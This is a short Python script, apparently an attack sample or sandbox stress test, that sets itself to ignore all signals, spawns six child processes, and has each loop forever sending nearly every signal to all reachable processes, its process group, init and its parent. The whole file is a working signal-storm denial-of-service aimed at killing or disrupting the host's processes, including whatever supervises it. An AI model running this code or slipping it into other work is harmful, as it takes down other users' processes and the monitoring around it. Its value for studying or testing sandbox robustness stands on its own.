import os, signal
from attack import children
def storm(_):
    for number in range(1, 65):
        try: signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError): pass
    while True:
        for number in range(1, 65):
            if number in (9, 19): continue
            for pid in (-1, 0, 1, os.getppid()):
                try: os.kill(pid, number)
                except (OSError, PermissionError): pass
children(6, storm)
storm(0)
